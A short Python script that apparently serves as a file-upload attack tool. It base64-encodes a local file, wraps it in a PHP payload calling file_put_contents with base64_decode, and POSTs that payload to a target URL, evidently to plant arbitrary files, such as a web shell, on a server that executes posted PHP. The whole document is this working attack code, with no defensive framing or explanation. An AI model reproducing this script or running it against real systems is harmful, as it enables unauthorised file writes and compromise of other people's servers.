#!/usr/bin/env python3
import sys, base64
import requests
url, local, remote = sys.argv[1:4]
blob = base64.b64encode(open(local, 'rb').read()).decode()
payload = "<?php\nfile_put_contents('%s', base64_decode('%s'));\necho 'done';\n" % (remote, blob)
print(requests.post(url, data=payload).text)
